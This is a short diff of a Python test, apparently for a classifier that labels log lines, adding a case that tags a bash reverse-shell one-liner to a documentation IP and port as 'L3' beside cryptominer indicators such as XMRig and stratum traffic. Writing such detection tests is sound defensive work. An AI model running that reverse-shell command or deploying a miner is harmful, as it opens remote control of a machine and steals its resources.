@@ -367,6 +367,7 @@ def test_a_replay_lists_the_verdicts_that_would_change() -> None:
         ("Setting up gcc", "W6"),
         ("Installing g++ (12.2)", "W6"),
         ("STRATUM+TCP to it", "L3"),
+        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "L3"),
         ("XMRig 6.21", "L3"),
         ("net new job from it", "L3"),
         ("cpu accepted (1/0)", "L3"),
